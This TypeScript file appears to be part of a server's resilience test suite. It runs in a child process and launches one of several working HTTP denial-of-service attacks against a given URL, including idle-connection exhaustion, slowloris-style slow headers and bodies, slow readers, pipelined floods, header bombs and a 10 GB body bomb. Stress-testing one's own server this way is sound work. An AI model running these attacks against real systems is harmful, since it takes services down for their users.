/** An attack in a process of its own, named by its first argument, on the server of the second; until it is stopped. */
import { connect, type Socket } from 'node:net'
import { constants, setPriority } from 'node:os'
import type { AttackName } from './names.ts'

// An attacker has a machine of its own: on this one it has what the server, its database and its other clients leave.
setPriority(constants.priority.PRIORITY_LOW)

const [name, url = ''] = process.argv.slice(2)
const { hostname: host, port } = new URL(url)
const head = (method: string, path: string, lines = '') =>
  `${method} ${path} HTTP/1.1\r\nHost: x\r\n${lines}\r\n`

interface Attack {
  readonly connections: number
  readonly begin: (socket: Socket) => void
  /** What is sent again and again, and how often; a connection that was closed is opened again with the next. */
  readonly again?: { readonly everyMs: number; readonly send: (socket: Socket) => void }
  /** Reads nothing of what is answered. */
  readonly isDeaf?: true
}

const flood = head('GET', '/livez').repeat(500)
const headerBomb = head('GET', '/livez', 'a: b\r\n'.repeat(2_500))
const bodyPiece = Buffer.alloc(1024 * 1024, 0x20)

const attacks: Readonly<Record<AttackName, Attack>> = {
  'idle connections': { connections: 10_000, begin: () => {} },
  'slow headers': {
    connections: 2_000,
    begin: (socket) => socket.write('GET /livez HTTP/1.1\r\nX: '),
    again: { everyMs: 2_000, send: (socket) => socket.write('x') },
  },
  'slow bodies': {
    connections: 2_000,
    begin: (socket) => socket.write(head('POST', '/api/coupons/claim', 'Content-Length: 10000\r\n')),
    again: { everyMs: 2_000, send: (socket) => socket.write('x') },
  },
  'slow readers': {
    connections: 500,
    begin: (socket) => socket.write(head('GET', '/openapi.json').repeat(10)),
    isDeaf: true,
  },
  'pipelined floods': {
    connections: 50,
    begin: (socket) => socket.write(flood),
    again: { everyMs: 1_000, send: (socket) => socket.write(flood) },
    isDeaf: true,
  },
  'header bombs': {
    connections: 50,
    begin: (socket) => socket.write(headerBomb),
    again: { everyMs: 1_000, send: (socket) => socket.write(headerBomb) },
  },
  'body bombs': {
    connections: 20,
    begin: (socket) => {
      socket.write(head('POST', '/api/coupons/claim', 'Content-Length: 10000000000\r\n'))
      const send = () => {
        while (socket.writable && socket.write(bodyPiece));
      }
      socket.on('drain', send)
      send()
    },
    again: { everyMs: 1_000, send: () => {} },
  },
}

/** Per turn, so that the listener's queue takes them. */
const openAtOnce = 250

function open({ begin, again, isDeaf }: Attack): void {
  const socket = connect({ host, port: Number(port) }, () => begin(socket))
  if (isDeaf === true) socket.pause()
  else socket.resume()
  const timer = again === undefined ? undefined : setInterval(again.send, again.everyMs, socket)
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(timer)
    setTimeout(() => open(attacks[name as AttackName]), 1_000)
  })
}

process.on('disconnect', () => process.kill(process.pid, 'SIGTERM'))
process.on('SIGINT', () => {})
const attack = attacks[name as AttackName]
let opened = 0
const opening = setInterval(() => {
  for (let n = 0; n < openAtOnce && opened < attack.connections; n += 1) {
    open(attack)
    opened += 1
  }
  if (opened < attack.connections) return
  clearInterval(opening)
  process.send?.({ type: 'listening', url })
}, 50)
